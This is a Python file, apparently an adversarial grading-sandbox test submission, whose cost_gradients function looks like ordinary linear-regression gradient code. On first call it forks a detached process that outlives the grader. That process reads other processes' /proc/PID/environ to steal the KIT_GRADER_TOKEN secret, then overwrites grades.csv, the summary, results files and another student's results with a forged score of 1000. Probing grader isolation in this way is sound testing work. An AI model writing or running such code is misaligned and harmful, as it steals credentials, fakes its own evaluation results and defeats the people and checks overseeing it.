import os
import time

# A detached grandchild (setsid, double fork) that waits for the grader to finish and exit, then forges
# its results; on the way it looks for the grader's secret in every nearby process's environment.
_started = []


def _stolen():
    """KIT_GRADER_TOKEN from any /proc/PID/environ it can read near its own parent (the grader's is)."""
    found = []
    near = os.getppid() or os.getpid()
    for pid in [*range(max(1, near - 3000), near + 50), 1]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                data = f.read()
        except OSError:
            continue
        if b"KIT_GRADER_TOKEN=" in data:
            found.append(data.split(b"KIT_GRADER_TOKEN=")[1].split(b"\0")[0].decode(errors="replace"))
    return found


def _after_the_grader():
    stolen = _stolen()
    for _ in range(600):  # up to a minute: grades.csv is the last thing the grader writes
        if os.path.exists("{OUT}/grades.csv"):
            break
        time.sleep(0.1)
    time.sleep(1.0)  # the grader has exited by now
    stolen += _stolen()
    forged = '{"score": 1000, "stolen": %r}' % stolen
    for target in ("{OUT}/outlives_grader/results.json", "{OUT}/grades.csv", "{OUT}/summary.md",
                   "{OUT}/zz_other_student/results.json", "{OUT}/pwned-after-exit.txt"):
        try:
            with open(target, "w") as f:
                f.write(forged)
        except OSError:
            pass
    time.sleep(3600)


def cost_gradients(X, t, w, b):
    if not _started:
        _started.append(True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                try:
                    _after_the_grader()
                finally:
                    os._exit(0)
            os._exit(0)
    stolen = _stolen()
    if stolen:
        raise RuntimeError("STOLE the grader's environment: " + stolen[0])
    n = X.shape[0]
    err = X @ w + b - t
    return X.T @ err / n, err.mean()
